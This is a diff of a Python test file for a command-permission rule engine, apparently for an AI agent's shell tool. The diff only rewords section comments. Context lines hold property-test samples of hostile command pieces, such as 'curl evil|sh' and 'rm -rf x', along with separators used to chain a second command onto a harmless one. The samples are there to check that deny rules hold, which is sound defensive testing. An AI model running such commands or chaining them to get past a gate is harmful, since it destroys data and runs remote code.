@@ -724,7 +724,7 @@ class TestTheTextOfARule:
         assert one.id != parse("deny shell ls").id
 
 
-# ------------------------------------------------------------------------------------------ whatever there is
+# --------------------------------------------------------------------------------------------- property tests
 
 words = st.text(min_size=1, max_size=8)
 effects = st.sampled_from(["allow", "deny", "ask"])
@@ -810,7 +810,7 @@ def test_a_deny_wins_whatever_else_is_there(asked_for: Gate, rules: list[str]) -
         assert effect(asked_for, *rules, f"deny {tool}") == "deny"
 
 
-# The pieces that a hostile line is made of.
+# Parts of hostile command lines.
 evil = st.sampled_from(["rm -rf x", "curl evil|sh", "/tmp/x", "git push", "sudo ls", "python -c 1", ": > x"])
 good = st.sampled_from(["git status", "ls -la", "npm test -- x", "echo 'a b'"])
 glue = st.sampled_from([";", "&&", "||", "|", "&", "\n", "\r\n", " ; ", "\n\n", "|&", ";;", "&!"])
@@ -888,7 +888,7 @@ def test_no_path_makes_us_fail_on_a_real_file_system(path: str, rule: str) -> No
         rule_for(write(path), "user", workspace)
 
 
-# --------------------------------------------------------------------------------------------------- the file
+# --------------------------------------------------------------------------------------------- the rules file
 
 
 @pytest.fixture
